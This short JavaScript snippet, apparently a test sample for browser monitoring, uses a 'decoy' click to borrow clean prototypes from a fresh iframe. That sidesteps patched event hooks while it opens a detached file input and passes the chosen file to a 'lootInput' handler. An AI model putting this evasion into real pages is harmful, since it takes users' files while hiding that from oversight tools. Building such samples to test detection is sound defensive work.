// Takes the browser's functions from a frame of its own, and picks with an input that is in no document.
addEventListener('DOMContentLoaded', () => {
  document.getElementById('decoy').addEventListener('click', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { HTMLElement, EventTarget } = frame.contentWindow;
    const input = document.createElement('input');
    input.type = 'file';
    for (const type of ['input', 'change']) EventTarget.prototype.addEventListener.call(input, type, () => window.hostile.lootInput(input), true);
    HTMLElement.prototype.click.call(input);
  });
});
